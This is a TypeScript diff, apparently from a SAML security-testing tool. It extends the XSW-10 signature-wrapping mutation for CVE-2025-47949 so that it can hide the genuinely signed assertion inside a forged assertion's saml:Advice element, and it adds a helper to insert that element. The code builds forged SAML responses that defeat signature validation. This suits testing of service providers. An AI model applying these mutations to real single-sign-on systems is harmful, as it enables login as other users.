@@ -202,17 +202,35 @@ function moveSignatureToResponse(doc: Document): Element {
   return assertion;
 }
 
-/** XSW-10 (CVE-2025-47949): A's Signature at Response level, A in Extensions, a forged A' in its place. */
-export function relocateSignature(): DomMutation {
+/** Where XSW-10 parks the signed Assertion once its Signature has moved to the Response. */
+export type Parking = 'extensions' | 'advice';
+
+/**
+ * XSW-10 (CVE-2025-47949): A's Signature at Response level, a forged A' in A's place, and A parked in
+ * <samlp:Extensions> or in the forged assertion's own <saml:Advice> (Core §2.6.1: Advice may carry
+ * Assertions, so an SP that looks for stray assertions only outside Advice misses this one).
+ */
+export function relocateSignature(parking: Parking = 'extensions'): DomMutation {
+  const where = parking === 'extensions' ? 'Extensions' : "the forged Assertion's Advice";
   return wrap(
-    'XSW-10: Assertion Signature moved to the Response, signed Assertion into Extensions',
+    `XSW-10: Assertion Signature moved to the Response, signed Assertion into ${where}`,
     (doc, ctx) => {
       const assertion = moveSignatureToResponse(doc);
       const forged = forgedAssertion(assertion, ctx, forgedId(EVIL_ASSERTION_ID, ctx), true);
       rootOf(doc).insertBefore(forged, assertion);
-      insertExtensions(doc).appendChild(assertion);
+      (parking === 'extensions' ? insertExtensions(doc) : insertAdvice(forged)).appendChild(assertion);
     },
   );
+}
+
+/** A <saml:Advice> where AssertionType allows it: after Conditions (else Subject), before the statements. */
+export function insertAdvice(assertion: Element): Element {
+  const before = child(assertion, 'Conditions') ?? child(assertion, 'Subject');
+  if (!before) throw new Error('the Assertion has no <Conditions> or <Subject> to put <saml:Advice> after');
+  const name = assertion.prefix ? `${assertion.prefix}:Advice` : 'Advice';
+  const advice = assertion.ownerDocument!.createElementNS(SAML_NS, name);
+  insertAfter(advice, before);
+  return advice;
 }
 
 /** XSW-11: the Assertion's Signature becomes a child of the Response; it still references the Assertion. */
